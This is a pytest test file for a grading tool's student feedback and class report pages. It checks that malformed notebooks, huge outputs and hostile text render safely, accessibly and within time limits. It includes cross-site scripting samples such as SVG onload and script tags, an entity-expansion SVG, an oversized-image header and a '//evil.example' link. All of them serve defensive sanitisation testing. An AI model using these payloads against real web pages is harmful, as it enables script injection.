@pytest.mark.parametrize(
    ("field", "odd"),
    [
        ("notebook", None),
        ("student", 3),
        ("status", "best"),
        ("tasks", [{"name": "and_not", "verdict": "right"}]),
        ("flags", [{"kind": "identical", "text": "x"}]),
        ("notes", "x"),
        ("answers", {"a": 1}),
        ("phases", {"cells": "1"}),
        ("seconds", 1.0),
    ],
)
def test_a_result_that_is_none_never_reaches_a_page(field, odd):
    data = json.loads(wire.write(result("ada", [mark("and_not", "right")])))
    assert wire.read(json.dumps(data).encode(), Result).student == "ada"
    with pytest.raises(wire.Malformed):
        wire.read(json.dumps({**data, field: odd}).encode(), Result)


@given(st.text(st.characters(exclude_characters="`"), max_size=60))
@settings(max_examples=60)
@pytest.mark.slow
def test_no_text_makes_an_element(noise):
    def tags(html: str) -> Counter:
        return Counter(tag.name for tag in soup(html).find_all())

    def pages(word: str) -> Iterator[str]:
        student, said = f"x{word}", f"x{word}x"
        marks = [mark("and_not", verdict, message=said, title=said) for verdict in ("mistake", "right")]
        flags = (Flag(FlagKind.LIMITS, said),)
        one = result(student, marks, notes=(said,), flags=flags, timestamp=said)
        others = {"missing": ["z" + word], "title": said, "seed": 1, "not_graded": {"n" + word: said}}
        yield class_report(said, [one, refused("y" + word, said)], **others)
        outputs = [
            {"output_type": "stream", "name": "stdout", "text": said},
            {"output_type": "error", "ename": said, "evalue": said, "traceback": []},
            {"output_type": "execute_result", "data": {"text/html": said}},
        ]
        # a raw cell: code is full of <span>s, and Markdown has elements of its own
        cells = [{"cell_type": "code", "source": "", "outputs": outputs}, {"cell_type": "raw", "source": said}]
        yield feedback_page(replace(one, notebook=json.dumps({"cells": cells})))

    for noisy, quiet in zip(pages(noise), pages(""), strict=True):
        assert tags(noisy) == tags(quiet)


@given(st.text(st.one_of(st.sampled_from("<>\"'&`[]()!#*_$|\\\n-=:~ a"), st.characters()), max_size=120))
@settings(max_examples=150)
def test_no_markdown_or_code_makes_more_than_it_may(noise):
    cells = [{"cell_type": kind, "source": noise} for kind in ("markdown", "code", "raw")]
    page = soup(feedback_page(of_cells(*cells)))
    check_inert(page)
    levels = [int(tag.name[1]) for tag in page.find_all(re.compile("^h[1-6]$"))]
    assert all(b <= a + 1 for a, b in pairwise(levels))


# --- the student's page -------------------------------------------------------------------------------------------


def cost(make: Callable[[], object], times: int = 7) -> float:
    """Return the processor time that something takes, the least of several times, with nothing kept from before.

    It is compared with that of something else in the same run, since machines differ.
    """
    took = []
    for _ in range(times):
        nb.coloured.cache_clear()
        nb.formatted.cache_clear()
        started = time.process_time()
        make()
        took.append(time.process_time() - started)
    return min(took)


def rendered(*cells: dict, **more) -> BeautifulSoup:
    return soup(feedback_page(of_cells(*cells, **more)))


def code(*outputs: dict, source: str = "") -> dict:
    return {"cell_type": "code", "source": source, "outputs": list(outputs)}


def shows(**data: str) -> dict:
    kinds = {"png": "image/png", "svg": "image/svg+xml", "html": "text/html", "text": "text/plain", "js": "text/x"}
    return {"output_type": "display_data", "data": {kinds[key]: value for key, value in data.items()}}


def markdown(source: str) -> BeautifulSoup:
    return rendered({"cell_type": "markdown", "source": source}).select_one(".cell")


def test_marks_and_messages(class_of_36):
    one = class_of_36[0][0]
    page = soup(feedback_page(one))
    assert page.select_one(".score").get_text() == f"{one.score:g} of 17 points"
    assert "ada · handed in 2026-11-01 12:00:00 UTC" in page.header.get_text()
    assert "the file was UTF-16" in page.select_one(".note").get_text()
    for i, m in enumerate(one.tasks, 1):
        item = page.find(id=f"task-{i}")
        assert item.h3.get_text() == f"{i}. {m.task.title}"
        assert item.select_one(".num").get_text() == f"{m.score:g} of {m.task.points:g}"
        assert item.select_one(".verdict").get_text() == words.VERDICTS[m.mark.verdict]
        message = item.select_one(".message")
        assert (message.get_text() if message else "") == m.mark.message
        cell = page.find(id=item.h3.a["href"][1:])
        assert f'"perceptron.{m.task.name}"' in cell.get_text()
        assert cell.a["href"] == f"#task-{i}"
    ids = [tag["id"] for tag in page.select("[id]")]
    assert len(ids) == len(set(ids))


def test_what_a_person_entered_stands_on_the_page(class_of_36):
    one = class_of_36[0][0]
    first, second = one.tasks[:2]
    score = one.score - first.score + 1.5
    entered = Adjusted(score, 0, {first.task.name: 1.5}, {}, {second.task.name: "See <me>\nat noon"})
    page = soup(feedback_page(one, entered))
    assert page.select_one(".score").get_text() == f"{score:g} of 17 points"
    item = page.find(id="task-1")
    assert item.select_one(".num").get_text() == f"1.5 of {first.task.points:g}"
    assert item.select_one(".verdict").get_text() == words.VERDICTS[first.mark.verdict]
    assert [said.get_text() for said in page.select(".by-hand")] == [
        "Your instructor set the points of this task.",
        "Your instructor's comment: See <me>\nat noon",
    ]


def test_scores_that_a_person_entered_count_in_the_report():
    results = [result(name, [mark("and_not", "wrong"), mark("by_hand", "right")]) for name in ("ada", "bob", "cy")]
    entered = {
        "ada": Adjusted(3.5, 0, {"and_not": 1.5}),
        "bob": Adjusted(2, 0, comments={"and_not": "a comment alone"}),
    }
    page = soup(report_of(results, adjusted=entered))
    assert [row[:3] for row in rows(page, "students")] == [
        ["ada", "graded", "3.5 (by hand)"],
        ["bob", "graded", "2"],
        ["cy", "graded", "2"],
    ]
    assert "the mean 2.5" in page.select_one(".short").get_text()


def test_a_refused_file_says_why_once():
    page = soup(feedback_page(refused("ada", "the file is `empty`")))
    assert page.main.get_text().count("the file is empty") == 1
    assert page.select_one(".score").get_text() == "0 of 17 points"
    assert len(page.select(".verdict.lost")) == 7


def test_flags_are_not_for_students():
    flags = tuple(Flag(kind, "the same as bob's") for kind in FlagKind)
    assert "bob" not in feedback_page(result("ada", flags=flags, answers={"a": "1"}))


@pytest.mark.parametrize(
    "notebook",
    ["", "[]", "{", "3", '{"cells": 3}', "[" * 100_000, '{"cells": ' + "9" * 5000],
    ids=["empty", "list", "cut", "number", "no cells", "deep", "long"],
)
def test_a_notebook_that_cannot_be_read(notebook):
    page = soup(feedback_page(result("ada", [mark("and_not", "right")], notebook=notebook)))
    assert "It could not be shown." in page.main.get_text()
    assert page.select_one(".score").get_text() == "2 of 2 points"


@pytest.mark.parametrize("odd", [None, 3, "x", [], [None, 3, "x"], {"a": 1}, [[["x"]]]])
def test_odd_cells_and_outputs(odd):
    for key in ("source", "outputs", "metadata", "cell_type"):
        check_inert(rendered({"cell_type": "code", "source": "a = 1", key: odd}))
    for key in ("output_type", "text", "data", "traceback", "name"):
        for kind in ("stream", "error", "display_data"):
            check_inert(rendered(code({"output_type": kind, key: odd})))
    for mime in ("image/png", "image/svg+xml", "text/plain", "text/html"):
        check_inert(rendered(code({"output_type": "display_data", "data": {mime: odd}})))
    check_inert(rendered({"cell_type": "code", "metadata": {"nbgrader": odd}}, odd))


def test_one_odd_cell_or_output_costs_no_other():
    stream = {"output_type": "stream", "name": "stdout", "text": "said"}
    page = rendered(3, {"cell_type": [], "source": "x"}, code(None, stream, {"output_type": 3}, source="a = 1"), "x")
    assert [cell.get_text().strip().replace("\n\n", "\n") for cell in page.select(".cell")] == [
        *["A cell that could not be shown."] * 2,
        "a = 1\nsaid",
        "A cell that could not be shown.",
    ]


def test_code_is_coloured_and_complete():
    source = "def f(x):\n    # half\n    return x / 2 < 'a'  "
    page = rendered(code(source=source))
    pre = page.select_one("pre.code")
    assert pre.get_text() == source.rstrip()
    assert {span["class"][0] for span in pre("span")} >= {"k", "nf", "c1", "s1", "mi"}
    shown = {word for rule in re.findall(r"\.hl :is\(([^)]*)\)", page.style.get_text()) for word in rule.split(",")}
    assert {".k", ".nf", ".c1", ".s1", ".mi"} <= shown


def test_markdown():
    cell = markdown(
        "## A *b*\n\n- x\n- `y < z`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n[site](https://example.org/?a=1&b=2)"
    )
    assert cell.h3.get_text() == "A b"
    assert [li.get_text() for li in cell("li")] == ["x", "y < z"]
    assert [th["scope"] for th in cell("th")] == ["col", "col"]
    assert cell.select_one("[role=region][tabindex='0'] table")
    assert cell.a["href"] == "https://example.org/?a=1&b=2"


@pytest.mark.parametrize("url", ["chapter.ipynb", "/x", "//evil.example", "#a", "ftp://a.b", "?x", "tel:1", "data:,x"])
def test_other_addresses_are_text(url):
    cell = markdown(f"see [this]({url})")
    assert cell.get_text().strip() == "see this"
    assert not cell("a")


def test_formulas_stay_as_they_are_typed():
    cell = markdown("The sum $s = \\mathbf w^T x_1 < *y*$ and\n\n$$\na < b\n$$\n")
    assert [c.get_text() for c in cell.select("code.math")] == [r"s = \mathbf w^T x_1 < *y*", "a < b"]
    assert not cell("em")


def test_headings_follow_those_of_the_page():
    sources = ("#### deep", "# top", "# ", "###### deepest", "# <!-- -->")
    page = rendered(*({"cell_type": "markdown", "source": source} for source in sources))
    again = rendered(*({"cell_type": "markdown", "source": source} for source in sources))
    assert again == page, "what was formatted before is kept"
    found = [(h.name, h.get_text()) for h in page.select(".cell :is(h1,h2,h3,h4,h5,h6)")]
    assert found == [("h3", "deep"), ("h3", "top"), ("h4", "deepest"), ("h3", "<!-- -->")]


def test_pictures():
    good = png_of(3, 2)
    page = rendered(code(shows(png=good[:20] + "\n" + good[20:] + "\n", text="<Figure>")))
    assert page.img["src"] == f"data:image/png;base64,{good}"
    assert (page.img["width"], page.img["height"], page.img["alt"]) == ("3", "2", "Picture in the output of cell 1")
    assert "Figure" not in page.select_one(".out").get_text()
    assert markdown(f"![a < b](data:image/png;base64,{good})").img["alt"] == "a < b"


@pytest.mark.parametrize(
    "bad",
    [
        "",
        "hello",
        "aGVsbG8=",
        png_of(2, 2)[:-3] + "*==",
        png_of(2, 2)[:40] + "*" * 4 + png_of(2, 2)[40:],
        base64.b64encode(b"GIF89a" + bytes(40)).decode(),
        base64.b64encode(b"<svg onload=alert(1)>" + bytes(40)).decode(),
        base64.b64encode(base64.b64decode(png_of(2, 2))[:12]).decode(),
        base64.b64encode(nb.PNG + b"\0\0\0\rJUNK" + struct.pack(">II", 2, 2) + bytes(20)).decode(),
        base64.b64encode(nb.PNG + b"\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000) + bytes(20)).decode(),
        base64.b64encode(base64.b64decode(png_of(2, 2)) + bytes(nb.LARGE_PNG)).decode(),
    ],
    ids=["empty", "text", "no png", "no base64", "stars", "gif", "svg", "cut", "junk", "a bomb of pixels", "large"],
)
def test_what_is_no_picture_is_not_shown_as_one(bad):
    text = {"cell_type": "markdown", "source": f"![p](data:image/png;base64,{bad})"}
    page = rendered(code(shows(png=bad, text="words instead")), text)
    assert not page("img")
    assert page.select_one(".out").get_text() == "words instead"


def test_svg_is_a_picture_and_nothing_else():
    svg = "<svg onload='alert(1)'><script>alert(1)</script></svg>"
    page = rendered(code(shows(svg=svg)))
    kind, _, data = page.img["src"].partition(";base64,")
    assert kind == "data:image/svg+xml"
    assert base64.b64decode(data).decode() == svg.replace("<svg ", '<svg xmlns="http://www.w3.org/2000/svg" ')
    assert not page("svg")


@pytest.mark.parametrize(
    "bad",
    ["<p>", "<!DOCTYPE svg [<!ENTITY a 'aaa'>]><svg>&a;</svg>", "<svg>" + " " * nb.LARGE_SVG + "</svg>"],
    ids=["none", "entities", "large"],
)
def test_svg_that_is_none_or_too_much(bad):
    page = rendered(code(shows(svg=bad, text="words instead")))
    assert not page("img")
    assert page.select_one(".out").get_text() == "words instead"


def test_html_is_shown_as_text():
    page = rendered(code(shows(html="<b>bold</b>", text="plain"), shows(html="<b>bold</b>"), shows(js="alert(1)")))
    assert [out.pre.get_text() for out in page.select(".out")[:2]] == ["plain", "<b>bold</b>"]
    assert "not shown" in page.select(".out")[2].get_text()


def test_streams_and_errors():
    page = rendered(
        code(
            {"output_type": "stream", "name": "stdout", "text": ["a\x1b[1;31mb", "\x1b[0m"]},
            {"output_type": "stream", "name": "stdout", "text": "c\n 10%\r100%\r\nend\x07\x1b]0;title\x07"},
            {"output_type": "stream", "name": "stderr", "text": "warned"},
            {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mE\x1b[39m: v", "line"]},
            {"output_type": "error", "ename": "E", "evalue": "v", "traceback": []},
        )
    )
    assert [pre.get_text() for pre in page.select(".out pre")] == ["abc\n100%\nend", "warned", "E: v\nline", "E: v"]
    assert len(page.select(".out.bad")) == 2


def test_long_things_are_shortened_with_a_note():
    flood = "".join(f"{i:06}\n" for i in range(100_000))
    lines = "\n".join(map(str, range(1000)))
    many = [{"output_type": "display_data", "data": {"text/plain": f"one {i}"}} for i in range(60)]
    page = rendered(
        code({"output_type": "stream", "name": "stdout", "text": flood}),
        code({"output_type": "stream", "name": "stdout", "text": lines}),
        code(*many),
        code(source="a = 1\n" * 20_000),
        {"cell_type": "markdown", "source": "**word** " * 3000},
    )
    first, second = (cell.get_text() for cell in page.select(".cell")[:2])
    assert first.lstrip().startswith("000000\n")
    assert "[… 690,000 characters left out …]" in first
    assert first.rstrip().endswith("099999")
    assert "\n99\n[… 800 lines left out …]\n900\n" in second
    assert "20 more outputs of this cell left out." in page.get_text()
    assert "characters left out" in page.select("pre.code")[-1].get_text()
    assert not page("strong")
    assert len(str(page)) < 200_000


@pytest.mark.slow
def test_a_page_has_an_end(class_of_36):
    output = {"output_type": "stream", "name": "stdout", "text": "x <\n" * 1900}
    picture = base64.b64encode(base64.b64decode(png_of(2, 2)) + bytes(1_900_000)).decode()
    cells = [code(output, shows(png=picture), source="x = 1 # <\n" * 900) for _ in range(20)]
    cells += [code(output, source="x = 1 # <\n" * 900) for _ in range(1000)]
    cells += [{"cell_type": "markdown", "source": "*a* " * 2000} for _ in range(200)]
    long = of_cells(*cells)
    ordinary = class_of_36[0][0]
    assert cost(lambda: feedback_page(long), times=1) < 400 * cost(lambda: feedback_page(ordinary))
    html = feedback_page(long)
    assert len(html) < 20_000_000
    assert "[… left out: the notebook is too long …]" in html


@pytest.mark.parametrize(
    ("kind", "source"),
    [
        ("code", "\n" * 9000),
        ("code", " \n\t\n" * 2000),
        ("code", "x" + "\n" * 9000 + "y"),
        ("code", "(" * 9000),
        ("code", "f'{" * 3000),
        ("markdown", "[" * 9000),
        ("markdown", "> " * 4500),
        ("markdown", "*a **b " * 1300),
        ("markdown", "- " * 4500),
        ("markdown", "`$" * 4500),
    ],
    ids=range(10),
)
@pytest.mark.slow
def test_the_time_of_hostile_text_grows_no_faster_than_its_length(kind, source):
    def cost_of(text: str) -> float:
        return cost(lambda: rendered(*[{"cell_type": kind, "source": text}] * 5), times=3)

    # Four times as long is four times the work, and would be sixteen times for what looks at every pair.
    assert cost_of(source) < 9 * max(cost_of(source[: len(source) // 4]), 0.01)


def test_an_ordinary_notebook_takes_little_more_than_its_colours(class_of_36):
    one = class_of_36[0][0]
    cells = json.loads(one.notebook)["cells"]
    assert len(cells) >= 28
    sources = ["".join(cell["source"]) for cell in cells if cell["cell_type"] == "code"]
    colours = cost(lambda: [highlight(source, PythonLexer(), HtmlFormatter()) for source in sources])
    assert cost(lambda: feedback_page(one)) < 6 * colours


def test_a_parser_that_gives_up_costs_nothing(monkeypatch):
    def fails(*_) -> None:
        raise RecursionError

    monkeypatch.setattr(nb, "formatted", fails)
    assert markdown("**a** <b>").get_text(strip=True) == "**a** <b>"


def test_no_answer_is_added(class_of_36):
    """The page says what the result says; known answers are nowhere near it."""
    one = class_of_36[0][0]
    shown = soup(feedback_page(one)).get_text()
    own = "\n".join("".join(cell["source"]) for cell in json.loads(one.notebook)["cells"])
    for task in TASKS.values():
        for secret in [*task.right, *(wrong.code for wrong in task.wrong)]:
            assert secret not in shown or secret in own


def test_tables_scroll_by_themselves_and_have_names(class_of_36):
    table = "| a | b |\n|---|---|\n| 1 | 2 |\n"
    text = {"cell_type": "markdown", "source": f"{table}\n\nand\n\n{table}"}
    for page, n in ((soup(report_of(*class_of_36, not_graded={"yan": "no memory"})), 7), (rendered(text, text), 4)):
        regions = [table.parent for table in page("table")]
        assert len(regions) == n
        assert all(region["tabindex"] == "0" and region["role"] == "region" for region in regions)
        assert len({region["aria-label"] for region in regions}) == n
        assert all(header["scope"] in ("col", "row") for header in page("th"))


# --- in the browser -------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def written(class_of_36, tmp_path_factory) -> dict[str, Path]:
    """Write every kind of page to files."""
    results, missing = class_of_36
    everything = "\n\n".join(payload for payload in PAYLOADS if "\n" not in payload)
    table = "| a | b |\n|---|---|\n| " + "long " * 9 + "|" + "x" * 300 + " |"
    wide = replace(hostile_result("w" * 400 + "<b>", "wide"), flags=(Flag(FlagKind.LIMITS, "w" * 400),))
    text = f"# {'w' * 300}\n\n{table}\n\n> - 1. > - {'$x$' * 99}\n\n{table}\n\n```\n{'v' * 300}\n```"
    outputs = [shows(png=png_of(2000, 20)), shows(text="y" * 3000)]
    cells = [{"cell_type": "markdown", "source": text}, code(*outputs, source="z = " + "1" * 800)]
    hostile = [hostile_result(payload, f"{i} {payload}") for i, payload in enumerate(PAYLOADS[::4])]
    pages = {
        "report": report_of(
            results, missing, seed=2026, catalogue=CATALOGUE, not_graded={"yan": "3 workers were lost over it"}
        ),
        "report-wide": report_of(
            [wide, refused("r" * 300, "s" * 300)], ["m" * 300], title="t" * 99, not_graded={"n" * 300: "o" * 300}
        ),
        "report-empty": report_of([]),
        "report-hostile": report_of(hostile, PAYLOADS),
        "feedback": feedback_page(results[0]),
        "feedback-refused": feedback_page(results[7]),
        "feedback-wide": feedback_page(replace(wide, notebook=json.dumps({"cells": cells}))),
        "feedback-hostile": feedback_page(hostile_result(everything)),
    }
    folder = tmp_path_factory.mktemp("pages")
    for name, html in pages.items():
        (folder / f"{name}.html").write_text(html, encoding="utf-8")
        # Escaping alone must do: the same page without the policy that would stop a script anyway.
        assert html.count(POLICY) == 1
        (folder / f"{name}-open.html").write_text(html.replace(POLICY, ""), encoding="utf-8")
    return {path.stem: path for path in folder.glob("*.html")}


PAGES = ["report", "report-wide", "report-empty", "report-hostile"]
PAGES += ["feedback", "feedback-refused", "feedback-wide", "feedback-hostile"]


@pytest.mark.site
@pytest.mark.slow
@pytest.mark.parametrize("name", PAGES)
def test_axe_finds_nothing(name, written, browser):
    """Wide in light by all rules, and narrow in the dark by those about colours, which are all that changes there."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="light", bypass_csp=True)
    page, found = context.new_page(), {}
    page.goto(written[name].as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    page.add_script_tag(path=AXE)
    for width, scheme, rules in ((1280, "light", None), (390, "dark", ["color-contrast", "link-in-text-block"])):
        page.set_viewport_size({"width": width, "height": 900})
        page.emulate_media(color_scheme=scheme)
        found[width, scheme] = page.evaluate(
            """async rules => (await axe.run(rules ? {runOnly: {type: "rule", values: rules}} : {})).violations.map(
                 v => `${v.id}: ${v.help}: ` + v.nodes.slice(0, 3).map(n => n.html.slice(0, 160)).join(" | "))""",
            rules,
        )
        if page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
            found[width, scheme].append("the page scrolls sideways")
    context.close()
    assert {where: what for where, what in found.items() if what} == {}


@pytest.mark.site
@pytest.mark.slow
@pytest.mark.parametrize("name", [f"{page}{more}" for page in PAGES for more in ("", "-open")])
def test_nothing_runs_and_nothing_is_asked_for(name, written, browser):
    page = browser.new_page()
    requests, said = [], []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(written[name].as_uri())
    page.mouse.move(300, 300)
    page.mouse.wheel(0, 100_000)
    page.wait_for_timeout(200)
    assert [url[:80] for url in requests if not url.startswith(("data:", "file:"))] == []
    assert page.evaluate("window.pwned") is None
    assert said == []
    page.close()
